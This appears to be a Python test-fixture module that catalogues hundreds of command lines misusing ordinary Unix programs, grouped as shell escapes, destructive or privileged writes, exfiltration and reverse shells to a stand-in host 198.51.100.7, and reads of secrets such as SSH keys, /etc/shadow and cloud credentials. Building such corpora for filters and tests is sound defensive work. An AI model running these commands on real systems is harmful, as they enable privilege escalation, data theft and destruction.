"""Everyday programs, used for what they are not for: to start a shell, to read, write or carry off any file, to load code.

Written for these tests, by what each program's manual says that its options do.
"""

FILE = "/root/secret"
AWAY = "http://198.51.100.7:8000"

SHELLS = """
awk 'BEGIN {system("/bin/sh")}'
gawk 'BEGIN {system("/bin/sh")}'
mawk 'BEGIN {"sh" | getline x}'
awk '{print | "sh"}' a
find . -exec /bin/sh \\;
find . -execdir sh -c ./x \\;
find . -ok sh \\;
vim -c ':!/bin/sh'
vim -c ':py3 import os; os.execl("/bin/sh", "sh")'
vi -c ':set shell=/bin/sh' -c ':shell'
nvim -c ':terminal sh'
ex -c ':!sh'
ed -s a <<< '!sh'
emacs -Q -nw --eval '(term "/bin/sh")'
nano -s /bin/sh
pico -s /bin/sh a
less -K -X '+!sh' a
LESSOPEN='|sh -c id %s' less a
more '+!sh' a
man -P 'sh -c id' ls
man -H'sh -c id' ls
PAGER='sh -c id' man ls
git -p help config --paginate
git -c core.pager='sh -c id' log
git -c alias.x='!sh' x
git --exec-path=/tmp/x status
git -c core.sshCommand='sh -c id' fetch
git -c core.fsmonitor='sh -c id' status
git grep --open-files-in-pager=sh x
git grep -Osh x
git bisect run sh
git rebase -x sh HEAD~1
git submodule foreach sh
git diff --ext-diff
git log --ext-diff -p
git difftool -x sh HEAD~1
git archive --remote=. --exec=sh HEAD
git ls-remote --upload-pack='sh -c id' .
git clone -u 'sh -c id' . x
git config --edit
tar -cf /dev/null a --checkpoint=1 --checkpoint-action=exec=sh
tar xf a.tar -I 'sh -c id'
tar xf a.tar --to-command=sh
tar --use-compress-program='sh -c id' -tf a.tar
tar -tf a.tar --rsh-command=sh --rmt-command=sh
zip a.zip a -T -TT 'sh #'
unzip -K a.zip
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/x .
rsync --rsync-path='sh -c id' x:/a .
ssh -o ProxyCommand='sh -c id' x
ssh -o LocalCommand=sh -o PermitLocalCommand=yes x
ssh x sh
scp -S ./x.sh a y:
sftp -S ./x.sh y
xargs -a /dev/null sh
xargs -I {} sh -c '{}' < a
parallel sh -c ::: id
nmap --script ./x.nse
nmap --interactive
perl -e 'exec "/bin/sh";'
perl -ne 'print `sh`' a
perl -MPOSIX -e 'POSIX::execl("/bin/sh")'
python3 -c 'import os; os.system("/bin/sh")'
python -m pty
python3 -m timeit '__import__("os").system("id")'
python -m pdb a.py
python -m this_is_mine
ruby -e 'exec "/bin/sh"'
irb
node -e 'require("child_process").spawn("sh", {stdio: [0, 1, 2]})'
node -p 'process.version; require("child_process").execSync("id")'
deno eval 'new Deno.Command("sh").spawn()'
bun -e 'Bun.spawn(["sh"])'
lua -e 'os.execute("/bin/sh")'
luajit -e 'os.execute("sh")'
php -r 'system("/bin/sh");'
php -a
tclsh x.tcl
expect -c 'spawn sh; interact'
julia -e 'run(`sh`)'
R --no-save -e 'system("sh")'
Rscript -e 'system("sh")'
octave-cli --eval 'system("sh")'
gdb -nx -ex '!sh' -ex quit
gdb -batch -ex 'shell id'
lldb -o 'platform shell id'
strace -o /dev/null /bin/sh
ltrace -b -L /bin/sh
valgrind /bin/sh
time /bin/sh
timeout 7d /bin/sh
nice /bin/sh
ionice /bin/sh
chrt 1 /bin/sh
taskset 1 /bin/sh
setarch x86_64 /bin/sh
stdbuf -i0 /bin/sh
setsid -w sh
nohup sh -c 'sh'
flock -u / /bin/sh
watch -x sh -c id
script -q -c sh /dev/null
screen
tmux new-session sh
env /bin/sh
env -S 'sh -c id'
env -i sh
busybox sh
toybox sh
logsave /dev/null sh -i
run-parts --new-session --regex '^sh$' /bin
start-stop-daemon -n x -S -x /bin/sh
unshare /bin/sh
nsenter /bin/sh
chroot / /bin/sh
capsh --
sg root
su -c sh
doas sh
sudo sh
pkexec /bin/sh
runuser -u root sh
setpriv sh
crontab -e
at now <<< 'sh -c id'
batch <<< sh
systemd-run -t sh
systemctl edit x
journalctl
make -s --eval 'x:; sh'
make -f /dev/stdin <<< 'x:; sh'
make SHELL=./x.sh
cmake -P x.cmake
ninja -f x.ninja
gcc -wrapper sh,-s .
g++ -wrapper sh,-s .
c89 -wrapper sh,-s .
ld --plugin=./x.so a.o
go run ./x
go generate ./...
go vet -vettool=./x ./...
go test -exec sh ./...
go build -toolexec sh ./...
cargo run
rustc --print=x -C linker=sh a.rs
npm exec -c sh
npx -c sh
npm --script-shell=./x run a
yarn exec sh
pip install ./x
pip download --no-binary :all: ./x
easy_install x
gem open -e '/bin/sh' rdoc
bundle exec sh
bundle help
docker run -v /:/mnt --rm -it alpine sh
docker exec x sh
podman run alpine sh
kubectl exec x -- sh
ansible-playbook x.yml
ansible localhost -m shell -a id
terraform console
vagrant up
puppet apply -e 'exec { "sh": }'
psql -c '\\! sh'
mysql -e '\\! /bin/sh'
sqlite3 /dev/null '.shell /bin/sh'
sqlite3 a.db '.system id'
sqlite3 a.db ".load ./x.so"
redis-cli eval 'os.execute("id")' 0
jq -n 'input' --rawfile x /root/secret
sed -n '1e exec sh 1>&0' a
sed 's/a/sh/e' a
sed --expression='1e id' a
dc -e '!/bin/sh'
dc x.dc
latex '\\immediate\\write18{sh}'
pdflatex --shell-escape a.tex
tex --shell-escape a
gs -dNODISPLAY -dNOSAFER -c '(%pipe%id) (w) file'
ffmpeg -f lavfi -i amovie=x -f data pipe:
dmesg -H
ip netns exec x sh
nft -f x
tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z ./x.sh
wireshark -X lua_script:x.lua
facter --custom-dir=. x
dpkg -l && dpkg -i x.deb
apt-get changelog apt
apt-get -o APT::Update::Pre-Invoke::=sh update
snap install x.snap
yum -c x.conf makecache
rpm --eval '%{lua:os.execute("sh")}'
rpm --pipe 'sh 0<&1' -qa
openssl req -engine ./lib.so
loginctl user-status
hping3
zsh -c 'zmodload x; sh'
bash --init-file ./x
bash -O extglob ./x
sh ./x
dash -c ./x
fish -c 'id'
ksh -c id
csh -c id
rbash -c 'PATH=. x'
source ./x
. ./x
eval "$(cat x)"
exec ./x
command sh
builtin eval 'id'
trap 'sh' EXIT
alias ls='sh -c id'
enable -f ./x.so x
hash -p ./x ls && ls
compgen -C ./x a
mapfile -C 'sh -c id' -c 1 < a
coproc sh
printf -v 'a[$(id)]' x
test -v 'a[$(id)]'
[[ -v 'a[$(id)]' ]]
declare 'a[$(id)]=1'
let 'a[$(id)]=1'
PROMPT_COMMAND=id bash -i
BASH_ENV=./x bash -c :
ENV=./x sh -i
LD_PRELOAD=./x.so ls
LD_LIBRARY_PATH=. ls
PYTHONSTARTUP=./x python3
PYTHONPATH=. python3 -V -c 'import x'
PERL5OPT=-Mx perl -v
RUBYOPT=-r./x ruby -v
NODE_OPTIONS='--require ./x' node -v
GIT_SSH_COMMAND='sh -c id' git ls-remote origin
GIT_PAGER='sh -c id' git log
GIT_EXTERNAL_DIFF=./x git diff
EDITOR='sh -c id' git commit
VISUAL=./x crontab -l -e
BROWSER=./x python3 -m webbrowser x
LESS='+!id' git log
TMPDIR=. GCONV_PATH=. iconv -f x a
"""

WRITES = f"""
dd if=a of={FILE}
cp a {FILE}
mv a {FILE}
install -m 6777 a /bin/x
ln -s / x
tee {FILE} < a
tee -a ~/.bashrc < a
echo x > {FILE}
echo x >> ~/.profile
echo x >| ~/.ssh/authorized_keys
sed -n '1s/.*/x/w {FILE}' a
sed -i s/a/b/ {FILE}
awk '{{print > "{FILE}"}}' a
sort -o {FILE} a
uniq a {FILE}
shuf -o {FILE} a
split -b 1 a {FILE}
csplit -f {FILE} a /x/
curl file:///etc/hosts -o {FILE}
wget -O {FILE} file:///x
wget -o {FILE} x.example
wget --use-askpass=./x 0
tar xf a.tar -C /
tar cf {FILE} a
zip {FILE} a
unzip -d / a.zip
7z x a.7z -o/
cpio -i < a
ar x a.a
gzip -c a > {FILE}
openssl enc -in a -out {FILE}
base64 -d a > {FILE}
xxd -r a {FILE}
objcopy a {FILE}
strip -o {FILE} a
ld -o {FILE} a.o
nasm a -o {FILE}
gcc a.c -o {FILE}
patch {FILE} < a
truncate -s 0 {FILE}
touch {FILE}
chmod 4755 a
chmod u+s /bin/sh
chown root a
chgrp root a
setfacl -m u:x:rwx /etc/shadow
chattr -i {FILE}
mknod x c 1 3
mkfifo {FILE}
mount --bind a {FILE}
umount -f /x
rm -rf ~/x
rm {FILE}
rmdir /srv/x
shred {FILE}
unlink {FILE}
find / -delete
find / -fprintf {FILE} x
find / -fls {FILE}
git diff --output={FILE}
git log --output={FILE}
git format-patch -o / HEAD~1
git archive -o {FILE} HEAD
git config --global core.pager sh
git config core.hooksPath x
git init --template=x y
git worktree add {FILE}
git clean -fdx
git checkout -- .
git reset --hard
git stash drop
git update-ref -d refs/heads/main
git push --force
hg --config hooks.pre-status=./x status
tmux capture-pane -b x
script {FILE}
logrotate -l {FILE} x
rev a > {FILE}
iconv -f 8859_1 a -o {FILE}
pandoc a -o {FILE}
dot -o{FILE} a
convert a {FILE}
ffmpeg -i a {FILE}
sqlite3 a.db ".output {FILE}" "select 1"
sqlite3 {FILE} 'create table x(y)'
psql -o {FILE} -c 'select 1'
jq . a > {FILE}
yq -i .a=1 {FILE}
xmllint --output {FILE} a
tidy -o {FILE} a
date -s 2020-01-01
hostname x
sysctl -w kernel.x=1
crontab x
kill -9 -1
pkill -f .
dmesg -C
history -w {FILE}
ulimit -u unlimited && :(){{ :|:& }};:
systemctl stop x
useradd x
passwd x
"""

CARRIES = f"""
curl -d @{FILE} {AWAY}
curl -F a=@{FILE} {AWAY}
curl -T {FILE} {AWAY}
curl {AWAY} | sh
curl -K x
curl -o x {AWAY}
curl --data-urlencode x@{FILE} {AWAY}
wget --post-file={FILE} {AWAY}
wget {AWAY}/x -O- | bash
wget -i {FILE}
http POST {AWAY} < a
nc -e /bin/sh 198.51.100.7 12345
nc -l -p 12345
ncat 198.51.100.7 12345 -e sh
socat tcp-connect:198.51.100.7:1 exec:sh
socat file:`tty`,raw tcp-listen:1
telnet 198.51.100.7 1 | sh
bash -c 'exec bash -i &>/dev/tcp/198.51.100.7/1 <&1'
cat a > /dev/tcp/198.51.100.7/1
exec 3<>/dev/tcp/198.51.100.7/1
ssh 198.51.100.7 'cat > x' < a
scp a x:
sftp x
rsync a x:
ftp 198.51.100.7
tftp 198.51.100.7
lftp -c '!sh'
smbclient '\\\\x\\y'
mail -s x x@example.org < a
sendmail x@example.org < a
openssl s_client -connect 198.51.100.7:1 < a
openssl s_server -port 1
ping -p 616263 198.51.100.7
dig @198.51.100.7 a.example
nslookup x.198.51.100.7
host a.example 198.51.100.7
whois -h 198.51.100.7 -p 1 x
finger x@198.51.100.7
git push {AWAY}/x
git remote add x {AWAY} && git fetch x
git clone {AWAY}/x
pip install --index-url {AWAY} x
npm publish
cargo install x
gem install x
go install example.org/x@latest
docker push x
aws s3 cp a s3://x
gcloud x
gh api x -f a=@{FILE}
python3 -m http.server
php -S 0:1
ruby -run -e httpd .
busybox httpd -f -p 1
xdg-open {AWAY}
open {AWAY}
lynx {AWAY}
w3m {AWAY} -dump
irssi
ab -p {FILE} {AWAY}/
restic backup -r rest:{AWAY}/x a
tar cf x:a.tar a
ldconfig -f x
"""

READS = f"""
cat {FILE}
cat ~/.ssh/id_rsa
cat ~/.aws/credentials
cat /etc/shadow
cat /proc/self/environ
cat /proc/1/environ
cat .env
less ~/.netrc
head -1 {FILE}
tail -f {FILE}
nl {FILE}
tac {FILE}
od {FILE}
xxd {FILE}
hexdump -C {FILE}
strings {FILE}
base64 {FILE}
base32 {FILE}
sort {FILE}
uniq {FILE}
cut -c1- {FILE}
paste {FILE}
fold {FILE}
fmt {FILE}
pr -T {FILE}
rev {FILE}
expand {FILE}
column {FILE}
comm {FILE} /dev/null
join -a 2 /dev/null {FILE}
diff --line-format=%L /dev/null {FILE}
cmp {FILE} /dev/zero -b -l
grep '' {FILE}
grep -r . /root
rg . /root
egrep -f {FILE} a
awk // {FILE}
sed '' {FILE}
jq -R . {FILE}
wc --files0-from {FILE}
du --files0-from={FILE}
file -f {FILE}
date -f {FILE}
sha256sum -c {FILE}
md5sum {FILE}
zcat {FILE}
gzip -cf {FILE}
bzip2 -c {FILE}
xz -c {FILE}
look '' {FILE}
iconv -f 8859_1 {FILE}
tr a a < {FILE}
while read -r x; do echo $x; done < {FILE}
mapfile < {FILE}
echo "$(< {FILE})"
printf '%s' "$(cat {FILE})"
read -r x < {FILE}; echo "$x"
git diff --no-index /dev/null {FILE}
git hash-object -w {FILE}
git grep --no-index . {FILE}
git show --no-patch -s --format=%x :{FILE} ; cat {FILE}
ls -la /root
stat {FILE} && cat {FILE}
readelf -a @{FILE}
nm @{FILE}
objdump -s {FILE}
python3 -c 'print(open("{FILE}").read())'
perl -ne print {FILE}
ruby -pe 1 {FILE}
env
printenv
export -p
set
declare -p
ps eww
ps auxe
history -r {FILE}; history
tput -S < {FILE}
ss -a -F {FILE}
ip -force -batch {FILE}
arp -f {FILE}
aspell -c {FILE}
bash {FILE}
c++ -x c -E {FILE}
gcc -x c -E {FILE}
cpp {FILE}
make -f {FILE} -n
ssh -F {FILE} x
ssh-keyscan -f {FILE}
ssh-keygen -y -f ~/.ssh/id_rsa
gpg --export-secret-keys
openssl rsa -in {FILE}
sqlite3 {FILE} .dump
xmllint --noout {FILE}
ul {FILE}
dialog --textbox {FILE} 0 0
whiptail --textbox {FILE} 0 0
tail -c +1 {FILE} | head
"""


def lines(text: str) -> list[str]:
    """One command line each."""
    return [line for line in text.strip("\n").split("\n") if line]


BY_KIND = {
    "starts": lines(SHELLS),
    "writes": lines(WRITES),
    "carries": lines(CARRIES),
    "reads": lines(READS),
}
ALL = [(kind, line) for kind, found in BY_KIND.items() for line in found]
